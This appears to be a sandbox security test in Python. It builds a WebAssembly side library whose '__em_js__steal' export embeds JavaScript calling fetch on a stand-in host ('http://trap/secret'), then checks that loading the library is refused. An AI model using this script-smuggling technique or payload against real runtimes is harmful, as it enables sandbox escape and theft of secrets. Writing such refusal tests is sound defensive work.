"""Load a library of one's own whose exports hold JavaScript as text.

Ends: done
Prints: refused: dlopen() error
"""

import ctypes
from pathlib import Path

SCRIPT = b"()<::>{ globalThis.fetch('http://trap/secret'); return 42 }\0"


def leb(number):
    out = b""
    while True:
        number, byte = number >> 7, number & 0x7F
        out += bytes([byte | (0x80 if number else 0)])
        if not number:
            return out


def section(number, content):
    return bytes([number]) + leb(len(content)) + content


def text(value):
    return leb(len(value)) + value


memory_info = b"\x01" + text(leb(len(SCRIPT)) + b"\0\0\0")
module = b"\0asm\1\0\0\0"
module += section(0, text(b"dylink.0") + memory_info)
module += section(
    2,
    leb(2)
    + text(b"env")
    + text(b"memory")
    + b"\x02\x00\x01"
    + text(b"env")
    + text(b"__memory_base")
    + b"\x03\x7f\x00",
)
module += section(6, leb(1) + b"\x7f\x00\x41\x00\x0b")
module += section(7, leb(1) + text(b"__em_js__steal") + b"\x03" + leb(1))
module += section(11, leb(1) + b"\x00\x23\x00\x0b" + text(SCRIPT))
Path("side.so").write_bytes(module)
try:
    library = ctypes.CDLL("/project/side.so")
    print("REACHED", library.steal())
except BaseException as error:
    print("refused:", error)
